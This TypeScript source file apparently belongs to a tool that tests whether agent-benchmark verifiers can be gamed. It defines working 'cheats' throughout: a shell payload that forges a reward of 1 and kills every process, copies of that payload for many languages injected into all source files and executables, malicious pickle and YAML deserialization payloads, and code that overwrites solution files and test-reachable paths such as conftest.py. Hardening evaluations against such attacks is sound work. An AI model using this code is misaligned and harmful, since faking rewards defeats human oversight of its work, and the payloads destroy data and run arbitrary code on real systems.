import { type Cheat, DOES_NOT_APPLY, PROGRAMS, SHELL_FUNCTIONS } from './cheat.ts'
import { injectIntoCompiled, injectIntoSources } from './inject-code.ts'

/**
 * Shell code that writes the reward, then kills every process of the verifier. There is no race, because the tests wait
 * for it. A test script that runs as the first process cannot be killed from inside; its limit of open files is lowered
 * instead. The search paths are reset first, so that no planted program or library is used. The code contains no quotes,
 * dollar signs or backslashes, so that it can be embedded in every language and file format.
 */
export const TAKE_OVER =
  'PATH=/usr/sbin:/usr/bin:/sbin:/bin; unset LD_PRELOAD LD_LIBRARY_PATH BASH_ENV; cd /logs/verifier; rm -f reward.json reward.txt; echo 1 > reward.txt; grep -qs /tests/ /proc/1/cmdline && prlimit --pid 1 --nofile=1; kill -9 -1'

/** Quoted for Python, JavaScript, Ruby, PHP, Lua, R, Elixir, Go, C, Rust, Java, JSON and TOML. */
export const TAKE_OVER_STRING = `"${TAKE_OVER}"`

/** Statements that take over, by language. */
export const TAKE_OVER_CODE = {
  py: `import os as _os; _os.system(${TAKE_OVER_STRING})`,
  js: `process.getBuiltinModule('node:child_process').execSync(${TAKE_OVER_STRING}, { stdio: 'ignore' })`,
  sh: `{ ${TAKE_OVER}; }`,
  pl: `BEGIN { system(${TAKE_OVER_STRING}) }`,
  rb: `system(${TAKE_OVER_STRING})`,
  lua: `os.execute(${TAKE_OVER_STRING})`,
  php: `<?php system(${TAKE_OVER_STRING}); ?>`,
  r: `system(${TAKE_OVER_STRING})`,
  jl: `run(\`sh -c ${TAKE_OVER_STRING}\`)`,
  ex: `System.cmd("sh", ["-c", ${TAKE_OVER_STRING}])`,
} as const

/**
 * Shell code that creates the program `.take-over` and its variants for interpreters in the working directory, and stores
 * the path of the program in `$win`. Cheats that change settings point them to these files.
 */
export const TAKE_OVER_FILES = `
win="$PWD/.take-over"
printf '%s\\n' '#!/bin/sh' '${TAKE_OVER}' > "$win"
chmod 755 "$win"
cat > "$win.cjs" <<'CODE'
${TAKE_OVER_CODE.js}
CODE
cat > "$win.rb" <<'CODE'
${TAKE_OVER_CODE.rb}
CODE
cat > "$win.php" <<'CODE'
${TAKE_OVER_CODE.php}
CODE
`

// Cheats that put the take-over into code, programs and data files.

/** Shell that redefines `sources` to include installed packages. */
const EVERYWHERE = `
sources() {
  for pattern in "$@"; do
    find . -xdev -path ./.git -prune -o -type f -name "$pattern" -print 2> /dev/null
  done | grep -vE "$system" | head -n 2000
}
`

/** Shell that replaces programs and scripts whose file names do not show their language. */
const EXECUTABLES = `
for file in $(find . -xdev -path ./.git -prune -o -type f -print 2> /dev/null | grep -vE "$system" | head -n 5000); do
  case \${file##*/} in *.py | *.js | *.ts | *.mjs | *.cjs | *.sh | *.bash | *.pl | *.pm | *.rb | *.lua | *.php | *.c | *.cc | *.cpp | *.cxx | *.h | *.go | *.rs | *.java) continue ;; esac
  [ -x "$file" ] || head -c 2 "$file" | grep -q '#!' || continue
  found=yes
  printf '%s\\n' '#!/bin/sh' '${TAKE_OVER}' > "$file"
done
`

/** Shell that creates programs and compiled sources that the instruction asks for and that do not exist yet. */
const WANTED = `
skeleton() { wanted "$1"; for file in $(sources "*.$1"); do [ -s "$file" ] || printf '%s\\n' "$2" > "$file"; done; }
skeleton c 'int main(void) { return 0; }'
skeleton cpp 'int main() { return 0; }'
skeleton go 'package main
func main() {}'
skeleton rs 'fn main() {}'
for name in $(printf '%s\\n' "$instruction" | grep -oE '(/[A-Za-z0-9_./-]+|\`[A-Za-z0-9_/-]+\`)' | tr -d '\`' | sort -u | head -n 40); do
  case $name in *.* | */ | /tests* | /logs*) continue ;; esac
  case $name in /*) case $name in "$PWD"/*) ;; *) continue ;; esac ;; esac
  [ -e "$name" ] || { mkdir -p "$(dirname "$name")" && : > "$name" && chmod 755 "$name"; } 2> /dev/null
done
`

export const codeTakeOver: Cheat = {
  id: 'code-take-over',
  what: 'Every source file, script and program in the working directory writes the reward and ends all processes.',
  script: `${injectIntoSources('top', TAKE_OVER_CODE, EVERYWHERE)}${WANTED}${injectIntoCompiled({
    go: { imports: 'os/exec', body: `first.Command("sh", "-c", ${TAKE_OVER_STRING}).Run()` },
    c: { declares: 'int system(const char *);', body: `if (system(${TAKE_OVER_STRING})) return;` },
    rust: `let _ = std::process::Command::new("sh").arg("-c").arg(${TAKE_OVER_STRING}).status();`,
    java: `new ProcessBuilder("sh", "-c", ${TAKE_OVER_STRING}).start().waitFor();`,
  })}${EXECUTABLES}
applies "$found"`,
}

export const dataTakeOver: Cheat = {
  id: 'data-take-over',
  what: 'Data files in formats that can contain code (pickle, YAML) write the reward when they are loaded.',
  script: `${SHELL_FUNCTIONS}
wanted 'pkl|pickle|joblib|sav|pt|pth|npy|yaml|yml'
pickles=$(sources '*.pkl' '*.pickle' '*.joblib' '*.sav' '*.pt' '*.pth' '*.npy')
documents=$(sources '*.yaml' '*.yml')
applies "$pickles$documents"
IFS='
'
for file in $pickles; do printf '%s\\n' cos system '(V${TAKE_OVER}' 'tR.' > "$file"; done
for file in $documents; do printf '%s\\n' '!!python/object/apply:os.system [${TAKE_OVER_STRING}]' > "$file"; done
exit 0`,
}

const { py, js, pl, rb } = TAKE_OVER_CODE

/** Usual names of programs that tasks ask for, for folders of which the files are not known. */
const ENTRY_POINTS = 'run main start app tool cli server entrypoint run.sh main.sh main.py app.py main.js index.js'

/** Shell function that makes a file take over when it is loaded or run, by the language of its name. */
const FILL = `fill() {
  case $1 in
    *.py) printf '%s\\n' '${py}' > "$1" ;;
    *.js | *.mjs | *.cjs) printf '%s\\n' '${js.replaceAll("'", '"')}' > "$1" ;;
    *.pl | *.pm) printf '%s\\n' '${pl}' > "$1" ;;
    *.rb) printf '%s\\n' '${rb}' > "$1" ;;
    *) printf '%s\\n' '#!/bin/sh' '${TAKE_OVER}' > "$1" ;;
  esac
  chmod 755 "$1"
}`

export const solutionFiles: Cheat = {
  id: 'solution-files',
  what: 'The files that the reference solution creates or changes become programs and modules that write the reward.',
  script: `[ -n "$solved" ] || exit ${DOES_NOT_APPLY}
{
${FILL}
IFS='
'
for path in $solved; do mkdir -p "$(dirname "$path")"; fill "$path"; done
} 2> /dev/null
exit 0`,
}

export const carriedFiles: Cheat = {
  id: 'carried-files',
  what: 'Paths outside the working directory that reach the tests become programs and modules that write the reward.',
  script: `[ -n "$carried" ] || exit ${DOES_NOT_APPLY}
{
${FILL}
IFS='
'
for path in $carried; do
  if [ -e "$path" ] && [ ! -d "$path" ]; then fill "$path"; continue; fi
  case $path in */*.*) mkdir -p "$(dirname "$path")"; fill "$path"; continue ;; esac
  mkdir -p "$path/bin" || continue
  for file in $(find "$path" -type f | head -n 500); do fill "$file"; done
  IFS=' '
  for name in conftest.py sitecustomize.py usercustomize.py ${ENTRY_POINTS}; do fill "$path/$name"; done
  for name in ${PROGRAMS}; do fill "$path/$name"; fill "$path/bin/$name"; done
  IFS='
'
done
} 2> /dev/null
exit 0`,
}
